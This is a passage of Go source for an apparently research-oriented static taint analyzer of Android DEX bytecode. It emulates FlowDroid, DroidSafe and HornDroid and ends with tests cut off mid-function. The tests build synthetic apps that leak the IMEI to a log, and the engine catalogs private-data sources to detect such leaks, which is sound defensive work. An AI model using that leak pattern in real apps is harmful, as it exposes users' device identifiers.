			mc := &mClass{desc: desc, file: f}
			if cd.Superclass != dex.NoIndex {
				mc.super = f.TypeName(cd.Superclass)
			}
			for _, t := range cd.Interfaces {
				mc.ifaces = append(mc.ifaces, f.TypeName(t))
			}
			for li, list := range [][]dex.EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
				for mi := range list {
					em := &list[mi]
					ref := f.MethodAt(em.Method)
					params, ret, err := dex.ParseSignature(ref.Signature)
					if err != nil {
						return nil, fmt.Errorf("taint: %s: %w", ref.Key(), err)
					}
					mm := &mMethod{
						cls:    mc,
						name:   ref.Name,
						sig:    ref.Signature,
						static: em.AccessFlags&dex.AccStatic != 0,
						ret:    ret,
						params: params,
						file:   f,
					}
					_ = li
					if em.Code != nil {
						placed, err := bytecode.DecodeAll(em.Code.Insns)
						if err != nil {
							// Undecodable (e.g. still-encrypted) bodies are
							// opaque to static analysis, like real packed
							// code.
							placed = nil
						}
						mm.code = placed
						mm.regs = int(em.Code.RegistersSize)
						mm.ins = int(em.Code.InsSize)
						mm.tries = em.Code.Tries
						mm.pcIdx = make(map[int]int, len(placed))
						for i, p := range placed {
							mm.pcIdx[p.PC] = i
						}
					}
					mc.meths = append(mc.meths, mm)
				}
			}
			md.classes[desc] = mc
		}
	}
	return md, nil
}

// findMethod resolves a method by walking the model's superclass chain.
func (md *model) findMethod(desc, name, sig string) *mMethod {
	for c := md.classes[desc]; c != nil; c = md.classes[c.super] {
		for _, m := range c.meths {
			if m.name == name && (sig == "" || m.sig == sig) {
				return m
			}
		}
	}
	return nil
}

// isActivity reports whether the class transitively extends the framework
// Activity class.
func (md *model) isActivity(desc string) bool {
	seen := map[string]bool{}
	for d := desc; d != "" && !seen[d]; {
		seen[d] = true
		if d == "Landroid/app/Activity;" {
			return true
		}
		c, ok := md.classes[d]
		if !ok {
			return d == "Landroid/app/Activity;"
		}
		d = c.super
	}
	return false
}

// implementsInterface reports whether the class (or its ancestors) lists the
// interface descriptor.
func (md *model) implementsInterface(desc, iface string) bool {
	seen := map[string]bool{}
	for d := desc; d != "" && !seen[d]; {
		seen[d] = true
		c, ok := md.classes[d]
		if !ok {
			return false
		}
		for _, i := range c.ifaces {
			if i == iface {
				return true
			}
		}
		d = c.super
	}
	return false
}

var lifecycleEntries = []struct{ name, sig string }{
	{"onCreate", "(Landroid/os/Bundle;)V"},
	{"onStart", "()V"},
	{"onResume", "()V"},
	{"onPause", "()V"},
	{"onStop", "()V"},
	{"onDestroy", "()V"},
}

// entryPoints lists the methods the tool treats as program entries.
func (md *model) entryPoints(p Profile) []*mMethod {
	var out []*mMethod
	for _, c := range md.classes {
		if md.isActivity(c.desc) {
			for _, lc := range lifecycleEntries {
				if m := md.findDeclared(c, lc.name, lc.sig); m != nil {
					out = append(out, m)
				}
			}
			if p.ExtraLifecycle {
				if m := md.findDeclared(c, "onLowMemory", "()V"); m != nil {
					out = append(out, m)
				}
			}
		}
		if p.Callbacks && md.implementsInterface(c.desc, "Landroid/view/View$OnClickListener;") {
			if m := md.findDeclared(c, "onClick", "(Landroid/view/View;)V"); m != nil {
				out = append(out, m)
			}
		}
		if m := md.findDeclared(c, "<clinit>", "()V"); m != nil {
			out = append(out, m)
		}
	}
	return out
}

func (md *model) findDeclared(c *mClass, name, sig string) *mMethod {
	for _, m := range c.meths {
		if m.name == name && m.sig == sig && len(m.code) > 0 {
			return m
		}
	}
	return nil
}
