package taint

import "dexlego/internal/apimodel"

// fact is the abstract value of one register: a taint set plus optional
// constant-string / class-object / method-object knowledge used for
// reflection resolution, and an optional allocation site identity.
type fact struct {
	Taint uint32

	HasStr bool
	Str    string

	HasCls bool
	Cls    string // class descriptor carried by a Class object

	HasMeth  bool
	MethCls  string // declaring class of a java.lang.reflect.Method object
	MethName string

	HasObj bool
	Obj    objID // allocation site, when statically known
}

type objID struct {
	Method string
	PC     int
}

func taintedFact(k apimodel.TaintKind) fact { return fact{Taint: uint32(k)} }

func (f fact) withTaint(t uint32) fact {
	f.Taint |= t
	return f
}

// join merges two abstract values at a control-flow merge point.
func join(a, b fact) fact {
	out := fact{Taint: a.Taint | b.Taint}
	if a.HasStr && b.HasStr && a.Str == b.Str {
		out.HasStr, out.Str = true, a.Str
	}
	if a.HasCls && b.HasCls && a.Cls == b.Cls {
		out.HasCls, out.Cls = true, a.Cls
	}
	if a.HasMeth && b.HasMeth && a.MethCls == b.MethCls && a.MethName == b.MethName {
		out.HasMeth, out.MethCls, out.MethName = true, a.MethCls, a.MethName
	}
	if a.HasObj && b.HasObj && a.Obj == b.Obj {
		out.HasObj, out.Obj = true, a.Obj
	}
	return out
}

func equalFacts(a, b []fact) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func joinAll(a, b []fact) []fact {
	out := make([]fact, len(a))
	for i := range a {
		out[i] = join(a[i], b[i])
	}
	return out
}
