package taint

import (
	"sort"
	"strings"

	"dexlego/internal/apimodel"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// Flow is one detected source-to-sink taint flow.
type Flow struct {
	Source     apimodel.TaintKind
	Sink       apimodel.SinkKind
	SinkMethod string // sink API method key
	Where      string // method containing the sink call site
	PC         int    // dex_pc of the call site
}

// Result is the outcome of analyzing one application.
type Result struct {
	Tool  string
	Flows []Flow
}

// Leaky reports whether any flow was found.
func (r *Result) Leaky() bool { return len(r.Flows) > 0 }

// Count returns the number of distinct flows (the unit of Table V).
func (r *Result) Count() int { return len(r.Flows) }

// Analyze runs the profile's static taint analysis over the DEX files
// (typically one classes.dex; dump-based unpackers provide several).
func Analyze(files []*dex.File, p Profile) (*Result, error) {
	md, err := buildModel(files)
	if err != nil {
		return nil, err
	}
	an := &analysis{
		md:          md,
		p:           p,
		fieldTaint:  make(map[fieldKey]uint32),
		fieldStr:    make(map[fieldKey]string),
		staticTaint: make(map[string]uint32),
		staticStr:   make(map[string]string),
		flows:       make(map[Flow]bool),
	}
	entries := md.entryPoints(p)
	// Global fixpoint over field/static stores: a handful of rounds
	// suffices because the lattice is small.
	for round := 0; round < 4; round++ {
		an.changed = false
		for _, e := range entries {
			an.analyzeMethod(e, fact{}, make([]fact, len(e.params)), 0,
				map[string]int{}, 0)
		}
		if !an.changed {
			break
		}
	}
	res := &Result{Tool: p.Name}
	for f := range an.flows {
		res.Flows = append(res.Flows, f)
	}
	sort.Slice(res.Flows, func(i, j int) bool {
		a, b := res.Flows[i], res.Flows[j]
		if a.Where != b.Where {
			return a.Where < b.Where
		}
		if a.PC != b.PC {
			return a.PC < b.PC
		}
		return a.Source < b.Source
	})
	return res, nil
}

const maxInlineDepth = 24

type fieldKey struct {
	class  string
	field  string
	hasObj bool
	obj    objID
}

type analysis struct {
	md *model
	p  Profile

	fieldTaint  map[fieldKey]uint32
	fieldStr    map[fieldKey]string
	staticTaint map[string]uint32
	staticStr   map[string]string
	flows       map[Flow]bool
	changed     bool
}

func unionTaint(recv fact, params []fact) uint32 {
	t := recv.Taint
	for _, p := range params {
		t |= p.Taint
	}
	return t
}

// analyzeMethod abstractly executes m with the given receiver/parameter
// facts and returns the return-value fact. ambient carries the caller's
// implicit-flow taint on the second pass.
func (an *analysis) analyzeMethod(m *mMethod, recv fact, params []fact, depth int, stack map[string]int, ambient uint32) fact {
	if m == nil || len(m.code) == 0 {
		return fact{}
	}
	if depth > maxInlineDepth || stack[m.key()] > 0 {
		// Recursion / depth cutoff: over-approximate by joining inputs.
		return fact{Taint: unionTaint(recv, params)}
	}
	stack[m.key()]++
	defer func() { stack[m.key()]-- }()

	ret, implicit := an.pass(m, recv, params, depth, stack, ambient)
	if an.p.ImplicitFlows && implicit&^ambient != 0 {
		// Re-run with the control-dependence taint ambient so that sink
		// calls and stores observe it.
		ret2, _ := an.pass(m, recv, params, depth, stack, ambient|implicit)
		ret = join(ret, ret2)
		ret.Taint |= implicit
	}
	return ret
}

// pass is one instruction-level dataflow pass over the method.
func (an *analysis) pass(m *mMethod, recv fact, params []fact, depth int, stack map[string]int, ambient uint32) (fact, uint32) {
	// Size the abstract register file to cover even out-of-range operands
	// in malformed bodies (the analyzer must never crash on hostile input),
	// plus an extra slot for the invoke result.
	maxReg := m.regs
	for _, pl := range m.code {
		bytecode.MapRegisters(pl.Inst, func(r int32) int32 {
			if int(r) >= maxReg {
				maxReg = int(r) + 1
			}
			return r
		})
	}
	nRegs := maxReg + 1
	resultSlot := maxReg
	entry := make([]fact, nRegs)
	base := m.regs - m.ins
	if base < 0 {
		base = 0
	}
	idx := base
	if !m.static {
		if idx < m.regs {
			entry[idx] = recv
		}
		idx++
	}
	for _, pf := range params {
		if idx >= m.regs {
			break
		}
		entry[idx] = pf
		idx++
	}

	inFacts := make([][]fact, len(m.code))
	inFacts[0] = entry
	work := []int{0}
	var retFact fact
	var implicit uint32

	push := func(ci int, facts []fact) {
		if ci < 0 || ci >= len(m.code) {
			return
		}
		if inFacts[ci] == nil {
			inFacts[ci] = facts
			work = append(work, ci)
			return
		}
		merged := joinAll(inFacts[ci], facts)
		if !equalFacts(merged, inFacts[ci]) {
			inFacts[ci] = merged
			work = append(work, ci)
		}
	}

	for len(work) > 0 {
		ci := work[len(work)-1]
		work = work[:len(work)-1]
		regs := append([]fact(nil), inFacts[ci]...)
		pl := m.code[ci]
		in := pl.Inst

		succNext := func() {
			if next, ok := m.pcIdx[pl.PC+in.Width()]; ok {
				push(next, regs)
			}
		}
		succAt := func(targetPC int) {
			if t, ok := m.pcIdx[targetPC]; ok {
				push(t, regs)
			}
		}
		// Exceptional edges: any covered instruction may transfer to its
		// handlers with the current facts (move-exception zeroes the
		// exception register itself).
		for _, tr := range m.tries {
			if !tr.Covers(pl.PC) {
				continue
			}
			for _, h := range tr.Handlers {
				succAt(int(h.Addr))
			}
			if tr.CatchAll >= 0 {
				succAt(int(tr.CatchAll))
			}
		}

		switch op := in.Op; {
		case op == bytecode.OpNop:
			succNext()
		case op == bytecode.OpMove || op == bytecode.OpMoveFrom16 ||
			op == bytecode.OpMoveObject || op == bytecode.OpMoveObject16:
			regs[in.A] = regs[in.B]
			succNext()
		case op == bytecode.OpMoveResult || op == bytecode.OpMoveResultObj:
			regs[in.A] = regs[resultSlot]
			succNext()
		case op == bytecode.OpMoveException:
			regs[in.A] = fact{}
			succNext()
		case op.IsReturn():
			if op != bytecode.OpReturnVoid {
				retFact = join(retFact, regs[in.A])
			}
		case op == bytecode.OpConst4 || op == bytecode.OpConst16 ||
			op == bytecode.OpConst || op == bytecode.OpConstHigh16:
			regs[in.A] = fact{}
			succNext()
		case op == bytecode.OpConstString:
			regs[in.A] = fact{HasStr: true, Str: m.file.String(in.Index)}
			succNext()
		case op == bytecode.OpConstClass:
			regs[in.A] = fact{HasCls: true, Cls: m.file.TypeName(in.Index)}
			succNext()
		case op == bytecode.OpCheckCast:
			succNext()
		case op == bytecode.OpInstanceOf || op == bytecode.OpArrayLength:
			regs[in.A] = fact{Taint: regs[in.B].Taint}
			succNext()
		case op == bytecode.OpNewInstance:
			regs[in.A] = fact{HasObj: true, Obj: objID{Method: m.key(), PC: pl.PC}}
			succNext()
		case op == bytecode.OpNewArray:
			regs[in.A] = fact{HasObj: true, Obj: objID{Method: m.key(), PC: pl.PC}}
			succNext()
		case op == bytecode.OpThrow:
			// No normal successor; handler edges are over-approximated away.
		case op.IsGoto():
			succAt(pl.PC + int(in.Off))
		case op.IsSwitch():
			for _, t := range in.Targets {
				succAt(pl.PC + int(t))
			}
			succNext()
		case op.IsBranch():
			condTaint := regs[in.A].Taint
			if op >= bytecode.OpIfEq && op <= bytecode.OpIfLe {
				condTaint |= regs[in.B].Taint
			}
			implicit |= condTaint
			succAt(pl.PC + int(in.Off))
			succNext()
		case op == bytecode.OpAGet || op == bytecode.OpAGetObject:
			arr := regs[in.B]
			regs[in.A] = fact{Taint: arr.Taint | an.readField(arr, "[", "$elem", ambient)}
			succNext()
		case op == bytecode.OpAPut || op == bytecode.OpAPutObject:
			an.writeField(regs[in.B], "[", "$elem", regs[in.A], ambient)
			succNext()
		case op == bytecode.OpIGet || op == bytecode.OpIGetObject || op == bytecode.OpIGetBoolean:
			ref := m.file.FieldAt(in.Index)
			obj := regs[in.B]
			f := fact{Taint: obj.Taint | an.readField(obj, ref.Class, ref.Name, ambient)}
			if an.p.StringThroughFields {
				if s, ok := an.readFieldStr(obj, ref.Class, ref.Name); ok {
					f.HasStr, f.Str = true, s
				}
			}
			regs[in.A] = f
			succNext()
		case op == bytecode.OpIPut || op == bytecode.OpIPutObject || op == bytecode.OpIPutBoolean:
			ref := m.file.FieldAt(in.Index)
			an.writeField(regs[in.B], ref.Class, ref.Name, regs[in.A], ambient)
			succNext()
		case op == bytecode.OpSGet || op == bytecode.OpSGetObject || op == bytecode.OpSGetBoolean:
			ref := m.file.FieldAt(in.Index)
			key := ref.Class + "->" + ref.Name
			f := fact{Taint: an.staticTaint[key]}
			if an.p.StringThroughFields {
				if s, ok := an.staticStr[key]; ok {
					f.HasStr, f.Str = true, s
				}
			} else if s, ok := an.constStaticString(ref); ok {
				// Every tool reads declared constant initializers.
				f.HasStr, f.Str = true, s
			}
			regs[in.A] = f
			succNext()
		case op == bytecode.OpSPut || op == bytecode.OpSPutObject || op == bytecode.OpSPutBoolean:
			ref := m.file.FieldAt(in.Index)
			key := ref.Class + "->" + ref.Name
			v := regs[in.A]
			if old := an.staticTaint[key]; old|v.Taint|ambient != old {
				an.staticTaint[key] = old | v.Taint | ambient
				an.changed = true
			}
			if an.p.StringThroughFields && v.HasStr {
				if old, ok := an.staticStr[key]; !ok || old != v.Str {
					an.staticStr[key] = v.Str
					an.changed = true
				}
			}
			succNext()
		case op.IsInvoke():
			regs[resultSlot] = an.invoke(m, pl.PC, in, regs, depth, stack, ambient)
			succNext()
		case op == bytecode.OpNegInt || op == bytecode.OpNotInt:
			regs[in.A] = fact{Taint: regs[in.B].Taint}
			succNext()
		case op >= bytecode.OpAddInt && op <= bytecode.OpUshrInt:
			regs[in.A] = fact{Taint: regs[in.B].Taint | regs[in.C].Taint}
			succNext()
		case op == bytecode.OpAddIntLit16 ||
			(op >= bytecode.OpAddIntLit8 && op <= bytecode.OpShrIntLit8):
			regs[in.A] = fact{Taint: regs[in.B].Taint}
			succNext()
		default:
			succNext()
		}
	}
	return retFact, implicit
}

// constStaticString reads a declared constant string initializer of a final
// static field from the defining DEX file.
func (an *analysis) constStaticString(ref dex.FieldRef) (string, bool) {
	c, ok := an.md.classes[ref.Class]
	if !ok {
		return "", false
	}
	cd := c.file.FindClass(ref.Class)
	if cd == nil {
		return "", false
	}
	for i, ef := range cd.StaticFields {
		fr := c.file.FieldAt(ef.Field)
		if fr.Name != ref.Name || i >= len(cd.StaticValues) {
			continue
		}
		if ef.AccessFlags&dex.AccFinal == 0 {
			return "", false
		}
		v := cd.StaticValues[i]
		if v.Kind == dex.ValueString {
			return c.file.String(v.Index), true
		}
	}
	return "", false
}

func (an *analysis) fieldKeyFor(obj fact, class, field string) fieldKey {
	if an.p.AllocSiteSensitive && obj.HasObj {
		return fieldKey{class: class, field: field, hasObj: true, obj: obj.Obj}
	}
	return fieldKey{class: class, field: field}
}

func (an *analysis) readField(obj fact, class, field string, ambient uint32) uint32 {
	t := an.fieldTaint[an.fieldKeyFor(obj, class, field)]
	if an.p.AllocSiteSensitive && !obj.HasObj {
		// Unknown receiver: merge every known allocation of this class.
		for k, v := range an.fieldTaint {
			if k.class == class && k.field == field {
				t |= v
			}
		}
	}
	_ = ambient
	return t
}

func (an *analysis) readFieldStr(obj fact, class, field string) (string, bool) {
	s, ok := an.fieldStr[an.fieldKeyFor(obj, class, field)]
	return s, ok
}

func (an *analysis) writeField(obj fact, class, field string, v fact, ambient uint32) {
	key := an.fieldKeyFor(obj, class, field)
	if old := an.fieldTaint[key]; old|v.Taint|ambient != old {
		an.fieldTaint[key] = old | v.Taint | ambient
		an.changed = true
	}
	if an.p.StringThroughFields && v.HasStr {
		if old, ok := an.fieldStr[key]; !ok || old != v.Str {
			an.fieldStr[key] = v.Str
			an.changed = true
		}
	}
}

func (an *analysis) recordFlows(m *mMethod, pc int, sinkKey string, kind apimodel.SinkKind, dataTaint uint32) {
	for _, src := range []apimodel.TaintKind{
		apimodel.TaintIMEI, apimodel.TaintSIM, apimodel.TaintLocation,
		apimodel.TaintSSID, apimodel.TaintContacts, apimodel.TaintFileContent,
		apimodel.TaintGeneric,
	} {
		if dataTaint&uint32(src) == 0 {
			continue
		}
		fl := Flow{Source: src, Sink: kind, SinkMethod: sinkKey, Where: m.key(), PC: pc}
		if !an.flows[fl] {
			an.flows[fl] = true
			an.changed = true
		}
	}
}

// invoke handles every invoke variant: reflection intrinsics, model-internal
// calls (inlined), and framework summaries.
func (an *analysis) invoke(m *mMethod, pc int, in bytecode.Inst, regs []fact, depth int, stack map[string]int, ambient uint32) fact {
	ref := m.file.MethodAt(in.Index)
	static := in.Op == bytecode.OpInvokeStatic || in.Op == bytecode.OpInvokeStaticR

	var recvF fact
	argRegs := in.Args
	if !static && len(argRegs) > 0 {
		recvF = regs[argRegs[0]]
		argRegs = argRegs[1:]
	}
	args := make([]fact, len(argRegs))
	for i, r := range argRegs {
		if int(r) < len(regs) {
			args[i] = regs[r]
		}
	}

	// --- reflection intrinsics -----------------------------------------
	switch {
	case ref.Class == "Ljava/lang/Class;" && ref.Name == "forName":
		if len(args) == 1 && args[0].HasStr {
			return fact{HasCls: true, Cls: "L" + strings.ReplaceAll(args[0].Str, ".", "/") + ";"}
		}
		return fact{}
	case ref.Class == "Ljava/lang/Class;" &&
		(ref.Name == "getMethod" || ref.Name == "getDeclaredMethod"):
		if recvF.HasCls && len(args) == 1 && args[0].HasStr {
			return fact{HasMeth: true, MethCls: recvF.Cls, MethName: args[0].Str}
		}
		return fact{}
	case ref.Class == "Ljava/lang/Class;" && ref.Name == "newInstance":
		return fact{}
	case ref.Class == "Ljava/lang/reflect/Method;" && ref.Name == "invoke":
		if !recvF.HasMeth || len(args) != 2 {
			return fact{} // unresolvable reflective call
		}
		target := an.md.findMethod(recvF.MethCls, recvF.MethName, "")
		if target == nil {
			return fact{}
		}
		elemTaint := args[1].Taint | an.readField(args[1], "[", "$elem", ambient)
		tParams := make([]fact, len(target.params))
		for i := range tParams {
			tParams[i] = fact{Taint: elemTaint}
		}
		return an.analyzeMethod(target, args[0], tParams, depth+1, stack, ambient)
	}

	// --- model-internal call --------------------------------------------
	targetCls := ref.Class
	if !static && recvF.HasObj {
		// Devirtualize through the known allocation class when possible.
		if oc := an.allocClass(recvF.Obj); oc != "" {
			if t := an.md.findMethod(oc, ref.Name, ref.Signature); t != nil {
				targetCls = oc
			}
		}
	}
	if target := an.md.findMethod(targetCls, ref.Name, ref.Signature); target != nil {
		callRecv, callArgs := recvF, args
		if !an.p.StringThroughCalls {
			callRecv = stripConstants(callRecv)
			stripped := make([]fact, len(callArgs))
			for i, a := range callArgs {
				stripped[i] = stripConstants(a)
			}
			callArgs = stripped
		}
		return an.analyzeMethod(target, callRecv, callArgs, depth+1, stack, ambient)
	}

	// --- framework summary ------------------------------------------------
	key := ref.Key()
	eff, ok := frameworkEffect(key, an.p.DeepFramework)
	if !ok {
		return fact{} // unmodeled framework call: taint is dropped
	}
	switch {
	case eff.source != 0:
		return taintedFact(eff.source)
	case eff.sink != 0:
		start := apimodel.SinkArgStart(key)
		var data uint32
		for i := start; i < len(args); i++ {
			data |= args[i].Taint
		}
		if an.p.ImplicitFlows {
			data |= ambient
		}
		an.recordFlows(m, pc, key, eff.sink, data)
		return fact{}
	case eff.severTaint:
		return fact{}
	}
	var out fact
	if eff.recvToRet {
		out.Taint |= recvF.Taint
		if eff.strIdentity && recvF.HasStr {
			out.HasStr, out.Str = true, recvF.Str
		}
		if eff.recvFieldToRet != "" {
			out.Taint |= an.readField(recvF, ref.Class, eff.recvFieldToRet, ambient)
		}
		if eff.recvToRet && recvF.HasObj && in.Op != bytecode.OpInvokeStatic {
			// Builder-style APIs return the receiver.
			out.HasObj, out.Obj = recvF.HasObj, recvF.Obj
		}
	}
	for _, ai := range eff.argsToRet {
		if ai < len(args) {
			out.Taint |= args[ai].Taint
		}
	}
	if eff.strConcat && recvF.HasStr && len(args) > 0 && args[0].HasStr {
		out.HasStr, out.Str = true, recvF.Str+args[0].Str
	}
	if eff.argToRecvField != "" && len(args) > 0 {
		an.writeField(recvF, ref.Class, eff.argToRecvField, args[0], ambient)
	}
	if eff.recvFieldToRet != "" && !eff.recvToRet {
		out.Taint |= an.readField(recvF, ref.Class, eff.recvFieldToRet, ambient)
	}
	return out
}

func stripConstants(f fact) fact {
	f.HasStr, f.Str = false, ""
	f.HasCls, f.Cls = false, ""
	f.HasMeth, f.MethCls, f.MethName = false, "", ""
	return f
}

// allocClass maps an allocation site back to the class it allocates.
func (an *analysis) allocClass(o objID) string {
	parts := strings.SplitN(o.Method, "->", 2)
	if len(parts) != 2 {
		return ""
	}
	c, ok := an.md.classes[parts[0]]
	if !ok {
		return ""
	}
	arrow := strings.Index(o.Method, "->")
	nameSig := o.Method[arrow+2:]
	for _, mm := range c.meths {
		if mm.name+mm.sig != nameSig {
			continue
		}
		if ci, ok := mm.pcIdx[o.PC]; ok {
			in := mm.code[ci].Inst
			if in.Op == bytecode.OpNewInstance || in.Op == bytecode.OpNewArray {
				return mm.file.TypeName(in.Index)
			}
		}
	}
	return ""
}
