package taint

import "dexlego/internal/apimodel"

// fwEffect describes the taint behavior of one framework method. Depth 0
// summaries are universal (string/boxing/core APIs plus sources and sinks
// every tool models); depth 1 summaries are the deep framework model
// (widget state, container round-trips) only DeepFramework profiles apply.
type fwEffect struct {
	deep bool

	source apimodel.TaintKind
	sink   apimodel.SinkKind

	recvToRet   bool  // receiver taint flows to the return value
	argsToRet   []int // these argument indices' taint flows to the return
	strIdentity bool  // return keeps the receiver's constant string
	strConcat   bool  // return string = recv string + arg0 string

	argToRecvField string // store arg0 taint into this receiver pseudo-field
	recvFieldToRet string // load this receiver pseudo-field into the return

	severTaint bool // returns clean data regardless of inputs (file reads)
}

// frameworkSummaries maps method keys to their taint effects.
var frameworkSummaries = map[string]fwEffect{
	// --- universal string / boxing model -------------------------------
	"Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;": {
		recvToRet: true, argsToRet: []int{0}, strConcat: true,
	},
	"Ljava/lang/String;->substring(II)Ljava/lang/String;": {recvToRet: true},
	"Ljava/lang/String;->toString()Ljava/lang/String;":    {recvToRet: true, strIdentity: true},
	"Ljava/lang/String;->length()I":                       {recvToRet: true},
	"Ljava/lang/String;->charAt(I)C":                      {recvToRet: true},
	"Ljava/lang/String;->isEmpty()Z":                      {recvToRet: true},
	"Ljava/lang/String;->startsWith(Ljava/lang/String;)Z": {recvToRet: true},
	"Ljava/lang/String;->indexOf(Ljava/lang/String;)I":    {recvToRet: true},
	"Ljava/lang/String;->equals(Ljava/lang/Object;)Z":     {recvToRet: true, argsToRet: []int{0}},
	"Ljava/lang/String;->valueOf(I)Ljava/lang/String;":    {argsToRet: []int{0}},
	"Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;": {
		recvToRet: true, argToRecvField: "$sb", strIdentity: true,
	},
	"Ljava/lang/StringBuilder;->append(I)Ljava/lang/StringBuilder;": {
		recvToRet: true, argToRecvField: "$sb",
	},
	"Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;": {
		recvToRet: true, argToRecvField: "$sb",
	},
	"Ljava/lang/StringBuilder;->toString()Ljava/lang/String;": {
		recvToRet: true, recvFieldToRet: "$sb",
	},
	"Ljava/lang/Integer;->parseInt(Ljava/lang/String;)I":    {argsToRet: []int{0}},
	"Ljava/lang/Integer;->valueOf(I)Ljava/lang/Integer;":    {argsToRet: []int{0}},
	"Ljava/lang/Integer;->intValue()I":                      {recvToRet: true},
	"Ljava/lang/Object;->toString()Ljava/lang/String;":      {recvToRet: true},
	"Ljava/lang/Throwable;->getMessage()Ljava/lang/String;": {recvToRet: true},

	// Reading storage severs taint: no tested tool tracks file contents
	// (the PrivateDataLeak3 blind spot). Internal-storage writes are not
	// sinks at all.
	"Ljava/io/FileUtil;->readExternal(Ljava/lang/String;)Ljava/lang/String;":   {severTaint: true},
	"Ljava/io/FileUtil;->readInternal(Ljava/lang/String;)Ljava/lang/String;":   {severTaint: true},
	"Ljava/io/FileUtil;->writeInternal(Ljava/lang/String;Ljava/lang/String;)V": {},

	// --- deep framework model (DroidSafe / HornDroid) -------------------
	"Landroid/widget/TextView;->setText(Ljava/lang/String;)V": {
		deep: true, argToRecvField: "$text",
	},
	"Landroid/widget/TextView;->getText()Ljava/lang/String;": {
		deep: true, recvFieldToRet: "$text",
	},
	"Landroid/location/Location;->toString()Ljava/lang/String;": {recvToRet: true},
}

// sourceEffects and sinkEffects are derived from the shared API catalog so
// the static engine and the runtime agree exactly.
func frameworkEffect(key string, deep bool) (fwEffect, bool) {
	if k := apimodel.SourceKind(key); k != 0 {
		return fwEffect{source: k}, true
	}
	if k := apimodel.SinkOf(key); k != 0 {
		return fwEffect{sink: k}, true
	}
	eff, ok := frameworkSummaries[key]
	if !ok {
		return fwEffect{}, false
	}
	if eff.deep && !deep {
		return fwEffect{}, false
	}
	return eff, true
}
