// Package taint implements an interprocedural static taint analysis over
// DEX files — the stand-in for FlowDroid, DroidSafe and HornDroid in the
// paper's evaluation. One engine serves all three tools; what differs
// between them (and what drives the deltas in Tables II/III) is a capability
// profile: callback and lifecycle modeling, framework model depth,
// allocation-site (value) sensitivity, implicit-flow tracking, and how far
// constant strings are tracked for reflection resolution.
package taint

// Profile captures the capability set of one static analysis tool.
type Profile struct {
	Name string

	// Callbacks registers UI callback implementations (onClick) as analysis
	// entry points. All three tools do this.
	Callbacks bool

	// ExtraLifecycle additionally models rare lifecycle callbacks
	// (onLowMemory) as entry points. FlowDroid's exhaustive lifecycle model
	// does; over-approximating here is a known FP source.
	ExtraLifecycle bool

	// DeepFramework enables the deep framework summaries (UI widget state,
	// container round-trips). DroidSafe's hand-written framework model and
	// HornDroid's semantics cover these; a shallow model loses such flows.
	DeepFramework bool

	// AllocSiteSensitive keys instance-field taint by allocation site when
	// known (value sensitivity). HornDroid's SMT encoding distinguishes
	// objects; field-insensitive tools merge all instances of a class.
	AllocSiteSensitive bool

	// ImplicitFlows tracks control-dependence taint. Only HornDroid does;
	// it both finds implicit leaks and over-approximates on benign code.
	ImplicitFlows bool

	// StringThroughCalls propagates known constant strings into callees,
	// resolving reflection whose name string arrives via a parameter.
	StringThroughCalls bool

	// StringThroughFields additionally tracks constant strings through
	// instance and static fields (full value sensitivity).
	StringThroughFields bool
}

// FlowDroid returns the FlowDroid (PLDI'14) capability profile.
func FlowDroid() Profile {
	return Profile{
		Name:           "FlowDroid",
		Callbacks:      true,
		ExtraLifecycle: true,
	}
}

// DroidSafe returns the DroidSafe (NDSS'15) capability profile.
func DroidSafe() Profile {
	return Profile{
		Name:               "DroidSafe",
		Callbacks:          true,
		DeepFramework:      true,
		StringThroughCalls: true,
	}
}

// HornDroid returns the HornDroid (EuroS&P'16) capability profile.
func HornDroid() Profile {
	return Profile{
		Name:                "HornDroid",
		Callbacks:           true,
		DeepFramework:       true,
		AllocSiteSensitive:  true,
		ImplicitFlows:       true,
		StringThroughCalls:  true,
		StringThroughFields: true,
	}
}

// Profiles returns the three evaluated tools in the paper's order.
func Profiles() []Profile {
	return []Profile{FlowDroid(), DroidSafe(), HornDroid()}
}
