package taint_test

import (
	"testing"

	"dexlego/internal/apimodel"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/taint"
)

// verdicts runs all three tool profiles and returns leaky-or-not per tool.
func verdicts(t *testing.T, files ...*dex.File) map[string]bool {
	t.Helper()
	out := make(map[string]bool, 3)
	for _, p := range taint.Profiles() {
		res, err := taint.Analyze(files, p)
		if err != nil {
			t.Fatalf("%s: %v", p.Name, err)
		}
		out[p.Name] = res.Leaky()
	}
	return out
}

func expect(t *testing.T, got map[string]bool, fd, ds, hd bool) {
	t.Helper()
	want := map[string]bool{"FlowDroid": fd, "DroidSafe": ds, "HornDroid": hd}
	for tool, w := range want {
		if got[tool] != w {
			t.Errorf("%s = %v, want %v", tool, got[tool], w)
		}
	}
}

// activity starts a standard activity class with a constructor.
func activity(p *dexgen.Program, desc string) *dexgen.Class {
	cls := p.Class(desc, "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	return cls
}

func finish(t *testing.T, p *dexgen.Program) *dex.File {
	t.Helper()
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestPlainFlowDetectedByAll(t *testing.T) {
	p := dexgen.New()
	activity(p, "La/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("t", 0, 2)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), true, true, true)
}

func TestBenignDetectedByNone(t *testing.T) {
	p := dexgen.New()
	activity(p, "Lb/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.ConstString(0, "harmless")
		a.LogLeak("t", 0, 2)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), false, false, false)
}

func TestInterproceduralFlow(t *testing.T) {
	p := dexgen.New()
	cls := activity(p, "Lc/Main;")
	cls.Virtual("fetch", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ReturnObj(0)
	})
	cls.Virtual("send", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
